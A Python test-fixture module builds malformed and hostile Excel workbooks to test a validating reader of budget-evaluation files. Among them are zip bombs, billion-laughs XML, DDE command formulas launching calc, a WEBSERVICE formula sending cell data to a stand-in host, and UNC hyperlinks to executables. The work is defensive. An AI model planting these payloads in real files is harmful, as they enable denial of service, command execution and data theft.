"""Builders of bad workbooks: each function returns the bytes of one broken, hostile or merely sloppy file,
made from the committed sample ``sample_data/changsha_2023.xlsx`` (through openpyxl or by editing its zip).

:data:`CASES` pairs every builder with what the reader must say about it (level, sheet, row, column, a Chinese
fragment). ``tests/unit/test_bad_files.py`` runs them all; ``data(name)`` caches the bytes so a file is built once.

Hostile files are built small and fast: the zip bomb is 1 GiB of zeros deflated with full flushes, so one
compressed megabyte is repeated 1,024 times (about 1 MB on disk, made in well under a second).
"""
from __future__ import annotations

import functools
import io
import random
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import openpyxl
from openpyxl.utils import get_column_letter

import sample_data
from evalcore.workbook import META, SPEC

FILE = "（文件）"
Edit = Callable[[bytes], bytes]


# --- helpers ----------------------------------------------------------------------------------------------

@functools.lru_cache(maxsize=1)
def sample_bytes() -> bytes:
    return sample_data.WORKBOOK.read_bytes()


def via_openpyxl(mutate: Callable[[openpyxl.Workbook], object]) -> bytes:
    wb = openpyxl.load_workbook(io.BytesIO(sample_bytes()))
    mutate(wb)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def sample_zip_part(name: str) -> bytes:
    return zipfile.ZipFile(io.BytesIO(sample_bytes())).read(name)


@functools.lru_cache(maxsize=1)
def sheet_parts() -> dict[str, str]:
    """Sheet name -> zip entry of the sample (from xl/workbook.xml and its relationships)."""
    z = zipfile.ZipFile(io.BytesIO(sample_bytes()))
    rels: dict[str, str] = {}
    text = z.read("xl/_rels/workbook.xml.rels").decode()
    for el in re.findall(r"<Relationship [^>]*>", text):
        rid = re.search(r'Id="([^"]+)"', el).group(1)
        target = re.search(r'Target="([^"]+)"', el).group(1)
        rels[rid] = target.lstrip("/") if target.startswith("/") else "xl/" + target
    out = {}
    for el in re.findall(r"<sheet [^>]*>", z.read("xl/workbook.xml").decode()):
        name = re.search(r'name="([^"]+)"', el).group(1)
        rid = re.search(r'r:id="([^"]+)"', el).group(1)
        out[name] = rels[rid]
    return out


def edit_zip(edits: dict[str, Edit | bytes | None] | None = None, extra: dict[str, bytes] | None = None,
             source: bytes | None = None) -> bytes:
    """A copy of the sample zip with some parts changed (a function of the old bytes, new bytes, or None to
    drop the part) and some parts added."""
    edits = edits or {}
    src = zipfile.ZipFile(io.BytesIO(source or sample_bytes()))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as out:
        for info in src.infolist():
            data = src.read(info)
            if info.filename in edits:
                edit = edits[info.filename]
                if edit is None:
                    continue
                data = edit(data) if callable(edit) else edit
            out.writestr(info.filename, data)
        for name, data in (extra or {}).items():
            out.writestr(name, data)
    return buf.getvalue()


def edit_sheet(sheet: str, edit: Edit) -> bytes:
    return edit_zip({sheet_parts()[sheet]: edit})


def letter(index: int) -> str:
    """0-based column index -> Excel letters."""
    return get_column_letter(index + 1)


def cell_ref(sheet: str, row: int, header: str) -> str:
    """The cell of a column (by its header) in the sample, which is written in the spec's column order."""
    spec = next(s for s in SPEC if s.name == sheet)
    return f"{letter([c.header for c in spec.columns].index(header))}{row}"


def _escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def cell_xml(ref: str, value: object, style: int | None = None) -> str:
    """A cell as Excel stores it: a number, a boolean, text (inline), or, for text starting with "=", a formula
    without a saved result (what openpyxl writes). None gives no cell."""
    s = f' s="{style}"' if style is not None else ""
    if value is None:
        return ""
    if isinstance(value, bool):
        return f'<c r="{ref}"{s} t="b"><v>{int(value)}</v></c>'
    if isinstance(value, (int, float)):
        return f'<c r="{ref}"{s} t="n"><v>{value!r}</v></c>'
    text = str(value)
    if text.startswith("="):
        return f'<c r="{ref}"{s}><f>{_escape(text[1:])}</f><v></v></c>'
    return f'<c r="{ref}"{s} t="inlineStr"><is><t xml:space="preserve">{_escape(text)}</t></is></c>'


def put_cell(ref: str, new_cell: str) -> Edit:
    """Replace a cell of a sheet part, or add it (to its row, or in a new row): python-calamine places cells
    by their reference, so the order does not matter."""
    pattern = re.compile(rb'<c r="' + ref.encode() + rb'"[^>]*?(?:/>|>.*?</c>)', re.S)
    row = int(re.sub(r"[A-Z]+", "", ref))

    def edit(xml: bytes) -> bytes:
        cell = new_cell.encode()
        new, n = pattern.subn(lambda _: cell, xml, count=1)  # a function: backslashes in the cell stay literal
        if n:
            return new
        row_end = re.search(rb'<row r="%d"[^>]*>.*?(</row>)' % row, xml, re.S)
        if row_end:
            return xml[:row_end.start(1)] + new_cell.encode() + xml[row_end.start(1):]
        return xml.replace(b"</sheetData>", b'<row r="%d">' % row + new_cell.encode() + b"</row></sheetData>", 1)

    return edit


def replace_cell(ref: str, new_cell: str) -> Edit:
    return put_cell(ref, new_cell)


def before_sheet_data_end(rows_xml: bytes) -> Edit:
    return lambda xml: xml.replace(b"</sheetData>", rows_xml + b"</sheetData>", 1)


def set_cell(sheet: str, row: int, header: str, value: object) -> bytes:
    ref = cell_ref(sheet, row, header)
    return edit_sheet(sheet, put_cell(ref, cell_xml(ref, value)))


def set_field(label: str, value: object) -> bytes:
    row = 2 + [c.header for c in META.columns].index(label)
    return edit_sheet(META.name, put_cell(f"B{row}", cell_xml(f"B{row}", value)))


def raw_zip(entries: list[tuple[str, bytes, int, int]]) -> bytes:
    """A zip written by hand from already deflated entries (name, deflated bytes, crc32, declared size): how
    a bomb or a header that lies about a size is made without inflating anything."""
    out = io.BytesIO()
    central = []
    for name, deflated, crc, size in entries:
        offset = out.tell()
        encoded = name.encode()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0x800, 8, 0, 0x21, crc, len(deflated), size,
                              len(encoded), 0))
        out.write(encoded)
        out.write(deflated)
        central.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0x800, 8, 0, 0x21, crc,
                                   len(deflated), size, len(encoded), 0, 0, 0, 0, 0, offset) + encoded)
    start = out.tell()
    for record in central:
        out.write(record)
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), out.tell() - start, start, 0))
    return out.getvalue()


def deflate(data: bytes) -> bytes:
    c = zlib.compressobj(6, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


def sample_entries(skip: str = "") -> list[tuple[str, bytes, int, int]]:
    src = zipfile.ZipFile(io.BytesIO(sample_bytes()))
    return [(i.filename, deflate(d), zlib.crc32(d), len(d))
            for i in src.infolist() if i.filename != skip for d in [src.read(i)]]


@functools.lru_cache(maxsize=1)
def zeros_gib() -> tuple[bytes, int, int]:
    """1 GiB of zeros, deflated (about 1 MB): (deflated bytes, crc32, size)."""
    mb = bytes(1 << 20)
    block = zlib.compressobj(9, zlib.DEFLATED, -15)
    one = block.compress(mb) + block.flush(zlib.Z_FULL_FLUSH)  # a full flush: every megabyte deflates alike
    end = zlib.compressobj(9, zlib.DEFLATED, -15).flush()
    crc = 0
    for _ in range(1024):
        crc = zlib.crc32(mb, crc)
    return one * 1024 + end, crc, 1 << 30


# --- not a workbook at all --------------------------------------------------------------------------------

def not_xlsx_text() -> bytes:
    return "这不是工作簿，只是一段说明文字。\n".encode()


def renamed_csv() -> bytes:
    return "单位,预算金额（万元）,实际执行金额（万元）\n市数据局,3400.06,2811.47\n".encode("utf-8-sig")


def renamed_csv_gbk() -> bytes:
    return "单位,预算金额（万元）,实际执行金额（万元）\r\n市数据局,3400.06,2811.47\r\n".encode("gbk")


def unicode_text_export() -> bytes:  # Excel's "Unicode text": UTF-16 with a BOM, tab-separated
    return "单位\t预算金额（万元）\n市数据局\t3400.06\n".encode("utf-16")


def renamed_html() -> bytes:
    return ("<html><head><meta charset='utf-8'></head><body><table><tr><td>单位</td><td>预算</td></tr>"
            "<tr><td>市数据局</td><td>3400.06</td></tr></table></body></html>").encode()


def excel_2003_xml() -> bytes:
    return ('<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?>'
            '<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="单位"/>'
            "</Workbook>").encode()


def empty_file() -> bytes:
    return b""


def truncated_zip() -> bytes:
    data = sample_bytes()
    return data[: len(data) // 2]


def random_bytes() -> bytes:
    return random.Random(20231231).randbytes(8192)


def old_xls() -> bytes:
    return (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + "Workbook".encode("utf-16-le")
            + random.Random(1).randbytes(4096))


def encrypted_xlsx() -> bytes:
    return (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + "EncryptionInfo".encode("utf-16-le")
            + bytes(64) + "EncryptedPackage".encode("utf-16-le") + random.Random(2).randbytes(4096))


def pdf_file() -> bytes:
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj <<>> endobj\n"


def gzip_file() -> bytes:
    import gzip

    return gzip.compress(sample_bytes())


def _zip(files: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in files.items():
            z.writestr(name, data)
    return buf.getvalue()


def xlsb_file() -> bytes:
    return _zip({"[Content_Types].xml": b"<Types/>", "xl/workbook.bin": b"\x83\x01\x00"})


def ods_file() -> bytes:
    return _zip({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<office/>"})


def docx_file() -> bytes:
    return _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"})


def plain_zip() -> bytes:
    return _zip({"评价数据/说明.txt": "压缩包里的文字".encode()})


def oversize_file() -> bytes:
    return b"PK\x03\x04" + bytes(31 * 1024 * 1024)


# --- hostile workbooks ------------------------------------------------------------------------------------

def macro_enabled() -> bytes:
    def types(xml: bytes) -> bytes:
        return xml.replace(b"spreadsheetml.sheet.main+xml", b"sheet.macroEnabled.main+xml")

    return edit_zip({"[Content_Types].xml": types}, extra={"xl/vbaProject.bin": b"\xcc\x61" + bytes(512)})


def macro_content_type_only() -> bytes:
    return edit_zip({"[Content_Types].xml": lambda xml: xml.replace(
        b"spreadsheetml.sheet.main+xml", b"sheet.macroEnabled.main+xml")})


def zip_bomb() -> bytes:
    """指标评分 replaced by an entry that inflates to 1 GiB."""
    deflated, crc, size = zeros_gib()
    part = sheet_parts()["指标评分"]
    return raw_zip([*sample_entries(skip=part), (part, deflated, crc, size)])


def zip_bomb_lying_header() -> bytes:
    """The same bomb, but the zip directory claims the part is 20 KB: only inflating shows the truth."""
    deflated, crc, _ = zeros_gib()
    part = sheet_parts()["指标评分"]
    return raw_zip([*sample_entries(skip=part), (part, deflated, crc, 20_000)])


def ratio_bomb() -> bytes:
    """A 50 MB part of zeros (under the size limit, but compressed about 1,000 times)."""
    return edit_zip(extra={"customXml/item1.xml": bytes(50 * 1024 * 1024)})


LAUGHS = (b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
          + b"".join(b'<!ENTITY lol%d "%s">' % (i, b"".join(b"&lol%s;" % (b"" if i == 1 else str(i - 1).encode())
                                                              for _ in range(10)))
                     for i in range(1, 10))
          + b"]>")


def _with_doctype(xml: bytes) -> bytes:
    end = xml.index(b"?>") + 2 if xml.startswith(b"<?xml") else 0
    return xml[:end] + LAUGHS + xml[end:].replace(b"<t>", b"<t>&lol9;", 1)


def billion_laughs() -> bytes:
    return edit_sheet("单位", _with_doctype)


def billion_laughs_in_workbook_xml() -> bytes:
    return edit_zip({"xl/workbook.xml": _with_doctype})


def utf16_part() -> bytes:
    return edit_sheet("单位", lambda xml: xml.decode().replace('encoding="UTF-8"', 'encoding="UTF-16"')
                      .encode("utf-16"))


def far_cell() -> bytes:
    """One value at XFD1048576: python-calamine would allocate 1,048,576 x 16,384 cells and abort."""
    return edit_sheet("单位", before_sheet_data_end(b'<row r="1048576"><c r="XFD1048576" t="n"><v>1</v></c></row>'))


def huge_shared_string_count() -> bytes:
    """A shared-strings table that declares 4 billion entries: python-calamine would reserve ~96 GB and abort."""
    sst = (b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
           b'2006/main" count="1" uniqueCount="4000000000"><si><t>x</t></si></sst>')
    ctype = (b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
             b'officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
    rel = (b'<Relationship Id="rIdSst" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
           b'sharedStrings" Target="sharedStrings.xml"/></Relationships>')
    return edit_zip({"[Content_Types].xml": lambda x: x.replace(b"</Types>", ctype),
                     "xl/_rels/workbook.xml.rels": lambda x: x.replace(b"</Relationships>", rel)},
                    extra={"xl/sharedStrings.xml": sst})


def missing_sheet_part() -> bytes:
    return edit_zip({sheet_parts()["单位"]: None})


def too_many_merged_cells() -> bytes:
    merges = b"".join(b'<mergeCell ref="F%d:G%d"/>' % (r, r) for r in range(1, 10_002))
    return edit_sheet("单位", lambda xml: xml.replace(
        b"</sheetData>", b'</sheetData><mergeCells count="10001">' + merges + b"</mergeCells>", 1))


JUNK_ROWS = 200_000


def junk_rows() -> bytes:
    """指标评分 with 200,000 rows of junk: more than the row limit, and the same errors on every row."""
    headers = ("单位", "指标编号", "专家", "得分", "扣分", "扣分说明")
    head = "".join(f'<c r="{chr(65 + i)}1" t="inlineStr"><is><t>{h}</t></is></c>' for i, h in enumerate(headers))
    rows = [f'<row r="1">{head}</row>']
    rows += [f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>市数据局</t></is></c>'
             f'<c r="B{r}" t="inlineStr"><is><t>A11</t></is></c>'
             f'<c r="C{r}" t="inlineStr"><is><t>垃圾{r}</t></is></c>'
             f'<c r="D{r}" t="inlineStr"><is><t>abc</t></is></c></row>' for r in range(2, JUNK_ROWS + 2)]
    xml = ('<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
           f'spreadsheetml/2006/main"><sheetData>{"".join(rows)}</sheetData></worksheet>').encode()
    part = sheet_parts()["指标评分"]
    return edit_zip({part: xml, part.replace("worksheets/", "worksheets/_rels/") + ".rels": None})


# --- cells that Excel shows differently from what they hold -----------------------------------------------

def merged_header() -> bytes:
    return via_openpyxl(lambda wb: wb["预算执行"].merge_cells("A1:B1"))


def merged_data_cells() -> bytes:
    return via_openpyxl(lambda wb: wb["问题"].merge_cells("C2:C3"))


def merged_range_beyond_xfd() -> bytes:
    """A merged range to column AAAAA, far beyond Excel's last column (XFD) and openpyxl's letters (ZZZ)."""
    def edit(xml: bytes) -> bytes:
        assert b"<mergeCells" not in xml
        return xml.replace(b"</sheetData>", b'</sheetData><mergeCells count="1"><mergeCell ref="B3:AAAAA3"/>'
                           b"</mergeCells>")
    return edit_sheet("问题", edit)


def formula_without_result() -> bytes:
    return set_cell("预算执行", 2, "预算金额（万元）", "=3400*1+0.06")  # openpyxl saves no cached value


def formula_with_result() -> bytes:
    return edit_sheet("预算执行", replace_cell("D2", '<c r="D2"><f>3400+0.06</f><v>3400.06</v></c>'))


def optional_formula_without_result() -> bytes:
    return set_cell("预算执行", 2, "报告执行率（%）", "=E2/D2*100")


def error_div0() -> bytes:
    return edit_sheet("预算执行", replace_cell("D2", '<c r="D2" t="e"><f>1/0</f><v>#DIV/0!</v></c>'))


def error_ref_in_score() -> bytes:
    return edit_sheet("指标评分", replace_cell("D2", '<c r="D2" t="e"><f>#REF!*2</f><v>#REF!</v></c>'))


def error_na_in_unit() -> bytes:
    return edit_sheet("预算执行", replace_cell("A3", '<c r="A3" t="e"><f>VLOOKUP(1,X1:X2,2,0)</f><v>#N/A</v></c>'))


def hidden_required_sheet() -> bytes:
    def mutate(wb: openpyxl.Workbook) -> None:
        wb["问题"].sheet_state = "hidden"

    return via_openpyxl(mutate)


def very_hidden_unknown_sheet() -> bytes:
    def mutate(wb: openpyxl.Workbook) -> None:
        ws = wb.create_sheet("草稿")
        ws["A1"] = "旧数据"
        ws.sheet_state = "veryHidden"

    return via_openpyxl(mutate)


def full_width_digits() -> bytes:
    return set_cell("预算执行", 2, "预算金额（万元）", "３４００．０６")


def wan_in_number() -> bytes:
    return set_cell("预算执行", 2, "预算金额（万元）", "3400.06万元")


def full_width_wan() -> bytes:
    return set_cell("预算执行", 2, "实际执行金额（万元）", "２８１１．４７ 万")


def yuan_text() -> bytes:
    return set_cell("预算执行", 2, "预算金额（万元）", "34000600元")


def yi_yuan_text() -> bytes:
    return set_cell("预算执行", 3, "预算金额（万元）", "1.093132亿元")


def trailing_space_unit() -> bytes:
    return set_cell("预算执行", 2, "单位", "市数据局  ")


def full_width_space_unit() -> bytes:
    return set_cell("整改", 3, "责任单位", "\u3000市数据局\u3000")


def formula_looking_text() -> bytes:  # text (not a formula) that starts with "="
    return edit_sheet("问题", put_cell("E2", '<c r="E2" t="inlineStr"><is><t>=SUM(A1:A3)</t></is></c>'))


# --- the validation rules ---------------------------------------------------------------------------------

def missing_units_sheet() -> bytes:
    return via_openpyxl(lambda wb: wb.remove(wb["单位"]))


def missing_column() -> bytes:
    return set_cell("预算执行", 1, "预算金额（万元）", "预算")


def text_in_number() -> bytes:
    return set_cell("预算执行", 2, "预算金额（万元）", "abc")


def fraction_in_int() -> bytes:
    return set_cell("问题", 3, "类别序号", 1.5)


def level_out_of_range() -> bytes:
    return set_cell("指标体系", 4, "层级", 4)


def negative_amount() -> bytes:
    return set_cell("预算执行", 3, "实际执行金额（万元）", -5)


def absurd_amount() -> bytes:
    return set_cell("预算执行", 3, "预算金额（万元）", 1e300)


def unknown_unit() -> bytes:
    return set_cell("预算执行", 3, "单位", "市统计局")


def duplicate_problem_id() -> bytes:
    return set_cell("问题", 3, "问题编号", "P1-1")


def duplicate_unit_key() -> bytes:
    return set_cell("单位", 4, "单位简称", "市数据中心")


def top_points_not_100() -> bytes:
    def mutate(wb: openpyxl.Workbook) -> None:
        ws = wb["指标体系"]
        for row in range(2, ws.max_row + 1):
            if ws.cell(row=row, column=1).value in ("D", "D1", "D13"):
                ws.cell(row=row, column=5).value = ws.cell(row=row, column=5).value + 5

    return via_openpyxl(mutate)


def child_points_mismatch() -> bytes:
    return set_cell("指标体系", 4, "分值", 3)  # A11: A11 + A12 = 6, but A1 (row 3) has 5


def score_above_points() -> bytes:
    return set_cell("指标评分", 2, "得分", 2.5)  # 市数据局 A11 专家A; A11 has 2 points


def deadline_not_a_date() -> bytes:
    return set_cell("整改", 2, "整改期限", "明年")


def impossible_date() -> bytes:
    return set_cell("整改记录", 3, "日期", "2024-02-30")


def unknown_status() -> bytes:
    return set_cell("整改", 3, "整改状态", "已完成")


def unknown_expert_method() -> bytes:
    return set_field("专家得分合成方式", "中位数")


def sheet_empty() -> bytes:
    def mutate(wb: openpyxl.Workbook) -> None:
        wb.remove(wb["单位"])
        wb.create_sheet("单位", 1)

    return via_openpyxl(mutate)


def executed_above_budget() -> bytes:
    return set_cell("预算执行", 2, "实际执行金额（万元）", 4000)


def stated_rate_far() -> bytes:
    return set_cell("预算执行", 2, "报告执行率（%）", 83.5)


def category_heading_row() -> bytes:
    def mutate(wb: openpyxl.Workbook) -> None:
        ws = wb["问题"]
        ws.cell(row=21, column=2).value = 7
        ws.cell(row=21, column=3).value = "其他问题"

    return via_openpyxl(mutate)


def category_gap() -> bytes:
    def mutate(wb: openpyxl.Workbook) -> None:
        ws = wb["建议"]
        for row in (17, 18, 19):  # R6-1..R6-3 become category 7: there is no category 6 any more
            ws.cell(row=row, column=2).value = 7

    return via_openpyxl(mutate)


def extra_sheet() -> bytes:
    return via_openpyxl(lambda wb: wb.create_sheet("草稿").cell(row=1, column=1, value="随手记"))


def stated_total_mismatch() -> bytes:
    return set_field("报告资金总额（万元）", 14000)


def sheet_name_with_space() -> bytes:
    def mutate(wb: openpyxl.Workbook) -> None:
        wb["单位"].title = "单位 "

    return via_openpyxl(mutate)


def header_with_space() -> bytes:
    return set_cell("预算执行", 1, "预算金额（万元）", "预算金额 （万元）")


def history_date_as_text() -> bytes:  # accepted: a date typed as text
    return set_cell("整改记录", 2, "日期", "2024年3月1日")


# --- issue 13: what a careless copy or a hostile part did silently ------------------------------------------

def _copy_row(sheet: str, row: int, changes: dict[str, object] | None = None) -> bytes:
    """Row ``row`` of ``sheet`` appended again at the end, with some cells (by header) changed."""
    def mutate(wb: openpyxl.Workbook) -> None:
        ws = wb[sheet]
        headers = [c.value for c in ws[1]]
        values = [c.value for c in ws[row]]
        for header, value in (changes or {}).items():
            values[headers.index(header)] = value
        ws.append(values)

    return via_openpyxl(mutate)


def duplicate_budget_line() -> bytes:  # the same unit, project and amounts: every total counts it twice
    return _copy_row("预算执行", 2)


def duplicate_budget_line_other_amounts() -> bytes:
    return _copy_row("预算执行", 2, {"预算金额（万元）": 100, "实际执行金额（万元）": 50, "报告执行率（%）": 50})


def duplicate_score_by_full_name() -> bytes:  # the unique check compares the cells: 全称 vs 简称 passed it
    return _copy_row("指标评分", 2, {"单位": "长沙市数据局"})


def duplicate_problem_text() -> bytes:
    return _copy_row("问题", 2, {"问题编号": "P1-9", "序号": 9})


def duplicate_recommendation_text() -> bytes:
    return _copy_row("建议", 2, {"建议编号": "R1-9", "序号": 9})


def duplicate_rectification_task() -> bytes:
    return _copy_row("整改", 2, {"整改编号": "Z99"})


def _drop_sheet(name: str) -> bytes:
    def mutate(wb: openpyxl.Workbook) -> None:
        del wb[name]

    return via_openpyxl(mutate)


def missing_budget_sheet() -> bytes:  # 评价信息 still states 资金总额 14,331.38
    return _drop_sheet("预算执行")


def missing_scores_sheet() -> bytes:  # 评价结果 still states the scores
    return _drop_sheet("指标评分")


def missing_achievements_sheet() -> bytes:
    return _drop_sheet("产出成效")


def _bomb_part(part: str, declared: int = 20_000) -> bytes:
    """The sample with one more part that inflates to 1 GiB while its header declares ``declared`` bytes."""
    deflated, crc, _ = zeros_gib()
    return raw_zip([*sample_entries(), (part, deflated, crc, declared)])


def media_bomb_lying_header() -> bytes:  # an image under xl/media/: not a sheet, never read by calamine
    return _bomb_part("xl/media/image1.png")


def thumbnail_bomb_lying_header() -> bytes:  # the one picture part accepted: inflated and bounded like all
    return _bomb_part("docProps/thumbnail.jpeg")


def formula_on_extra_sheet() -> bytes:
    return via_openpyxl(lambda wb: wb.create_sheet("草稿").cell(row=1, column=1, value="=cmd|' /C calc'!A0"))


def formula_outside_columns() -> bytes:  # column J of 预算执行 has no header: no reader looks at it
    return edit_sheet("预算执行", put_cell("J2", '<c r="J2"><f>WEBSERVICE("http://x.invalid/?"&amp;A2)</f></c>'))


def hyperlink_formula_with_result() -> bytes:
    return edit_sheet("预算执行", put_cell(
        "K3", '<c r="K3" t="str"><f>HYPERLINK("\\\\host\\share\\a.exe","打开")</f><v>打开</v></c>'))


# issue 27: the same formulas written so that a byte pattern misses them (the reader parses the XML)
_WEB = 'WEBSERVICE("http://x.invalid/?"&amp;A2)'
_UNC = 'HYPERLINK("file://\\\\host\\share\\a.exe","打开")'
_DDE = "cmd|' /C calc'!A0"
_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def formula_attribute_order() -> bytes:  # s before r
    return edit_sheet(B, put_cell("J2", f'<c s="0" r="J2"><f>{_WEB}</f></c>'))


def formula_single_quotes() -> bytes:
    return edit_sheet(B, put_cell("J2", f"<c r='J2' t='str'><f>{_UNC}</f><v>打开</v></c>"))


def formula_after_comment() -> bytes:
    return edit_sheet(B, put_cell("J2", f'<c r="J2"><!-- a note --><f>{_DDE}</f><v>0</v></c>'))


def formula_namespace_prefix() -> bytes:
    return edit_sheet(B, put_cell("J2", f'<x:c xmlns:x="{_NS}" r="J2"><x:f>{_DDE}</x:f><x:v>0</x:v></x:c>'))


def formula_tab() -> bytes:
    return edit_sheet(B, put_cell("J2", f'<c\tr="J2"\tt="str"><f>{_UNC}</f><v>打开</v></c>'))


def _before_validations(xml_part: str) -> Edit:
    return lambda xml: xml.replace(b"<dataValidations", xml_part.encode() + b"<dataValidations", 1)


def conditional_format_formula() -> bytes:
    return edit_sheet(B, _before_validations(
        f'<conditionalFormatting sqref="B2:B3"><cfRule type="expression" priority="1" dxfId="0">'
        f'<formula>{_WEB}</formula></cfRule></conditionalFormatting>'))


def conditional_format_harmless() -> bytes:  # a plain comparison: kept
    return edit_sheet(B, _before_validations(
        '<conditionalFormatting sqref="C2:C3"><cfRule type="expression" priority="1" dxfId="0">'
        "<formula>AND(ISNUMBER(C2),C2&gt;B2)</formula></cfRule></conditionalFormatting>"))


def data_validation_formula() -> bytes:
    return edit_sheet(B, lambda xml: xml.replace(b"</dataValidations>", (
        f'<dataValidation type="list" sqref="Z2"><formula1>{_DDE}</formula1></dataValidation>'
        "</dataValidations>").encode(), 1))


def data_validation_x14_formula() -> bytes:  # the x14 extension: the formula in an <xm:f>
    ext = ('<extLst><ext uri="{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}" '
           'xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main">'
           '<x14:dataValidations xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" count="1">'
           '<x14:dataValidation type="list"><x14:formula1><xm:f>INDIRECT("[other.xlsx]Sheet1!A1")</xm:f>'
           "</x14:formula1><xm:sqref>Z3</xm:sqref></x14:dataValidation></x14:dataValidations></ext></extLst>")
    return edit_sheet(B, lambda xml: xml.replace(b"</worksheet>", ext.encode() + b"</worksheet>", 1))


def far_cell_attribute_order() -> bytes:  # the extent found by parsing, whatever the attribute order
    return edit_sheet("单位", before_sheet_data_end(b'<row spans="1:1" r="1048576"><c s="0" r="XFD1048576" t="n">'
                                                     b"<v>1</v></c></row>"))


def _rel(rid: str, rtype: str, target: str, external: bool = True) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    return (f'<Relationship Id="{rid}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            f'{rtype}" Target="{_escape(target)}"{mode}/>').encode()


def _add_rel(rels_part: str, rel: bytes) -> Edit:
    return lambda xml: xml.replace(b"</Relationships>", rel + b"</Relationships>", 1)


def external_link_part() -> bytes:
    link = (b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook '
            b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"/>'
            b"</externalLink>")
    rels = (b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            + _rel("rId1", "externalLinkPath", "file:///\\\\host\\share\\book.xlsx") + b"</Relationships>")
    return edit_zip({"xl/_rels/workbook.xml.rels": _add_rel("", _rel("rId99", "externalLink",
                                                                     "externalLinks/externalLink1.xml", False))},
                    extra={"xl/externalLinks/externalLink1.xml": link,
                           "xl/externalLinks/_rels/externalLink1.xml.rels": rels})


_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)


def vba_under_another_name() -> bytes:  # no vbaProject.bin, no macro content type: the bytes say it
    return edit_zip(extra={"xl/printerSettings/printerSettings1.bin": _OLE})


def vba_content_type_other_name() -> bytes:
    return edit_zip({"[Content_Types].xml": lambda xml: xml.replace(b"</Types>", (
        b'<Override PartName="/xl/data.dat" ContentType="application/vnd.ms-office.vbaProject"/></Types>'))},
        extra={"xl/data.dat": b"\x00" * 64})


def activex_part() -> bytes:
    return edit_zip(extra={"xl/activeX/activeX1.xml": b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/'
                                                       b'office/2006/activeX" ax:classid="{0}"/>'})


def form_control() -> bytes:  # a button or check box, which can have a macro assigned
    return edit_zip(extra={"xl/ctrlProps/ctrlProp1.xml": b'<formControlPr xmlns="http://schemas.microsoft.com/'
                                                         b'office/spreadsheetml/2009/9/main" objectType="Button" '
                                                         b'fmlaMacro="[0]!Macro1"/>'})


def embedded_object() -> bytes:
    return edit_zip(extra={"xl/embeddings/Microsoft_Word_Document1.docx": b"PK\x05\x06" + bytes(18)})


def unc_hyperlink() -> bytes:  # a cell's hyperlink to a file share: opened by a click in the downloaded copy
    part = "xl/worksheets/_rels/" + sheet_parts()["预算执行"].rsplit("/", 1)[1] + ".rels"
    return edit_zip({part: _add_rel(part, _rel("rId77", "hyperlink", "\\\\host\\share\\a.exe"))})


def web_hyperlink() -> bytes:  # accepted: a web address, as Excel makes of a typed link in 佐证材料
    part = "xl/worksheets/_rels/" + sheet_parts()["预算执行"].rsplit("/", 1)[1] + ".rels"
    return edit_zip({part: _add_rel(part, _rel("rId77", "hyperlink", "https://www.example.gov.cn/a.pdf"))})


def dde_defined_name() -> bytes:
    return edit_zip({"xl/workbook.xml": lambda xml: xml.replace(
        b"</sheets>", b"</sheets><definedNames><definedName name=\"x\">cmd|' /C calc'!A0</definedName>"
                      b"</definedNames>", 1)})


MANY_SHEETS = 300


def many_extra_sheets() -> bytes:
    def mutate(wb: openpyxl.Workbook) -> None:
        for i in range(MANY_SHEETS):
            wb.create_sheet(f"草稿{i}")

    return via_openpyxl(mutate)


# --- what the reader must say -----------------------------------------------------------------------------

@dataclass(frozen=True)
class Case:
    name: str
    build: Callable[[], bytes]
    level: str  # "error": the file is refused; "warning": accepted with this warning; "ok": accepted silently
    sheet: str = FILE
    row: int | None = None
    column: str = ""
    fragments: tuple[str, ...] = ()
    hostile: bool = False  # also run through the real CLI, and its peak memory measured
    cli: bool = False  # also run through the real CLI (a representative subset of the others)


def _c(build: Callable[[], bytes], level: str, sheet: str = FILE, row: int | None = None, column: str = "",
       *fragments: str, hostile: bool = False, cli: bool = False) -> Case:
    return Case(build.__name__, build, level, sheet, row, column, fragments, hostile, cli)


B = "预算执行"
CASES: tuple[Case, ...] = (
    # not an .xlsx
    _c(not_xlsx_text, "error", FILE, None, "", "文本文件", ".xlsx"),
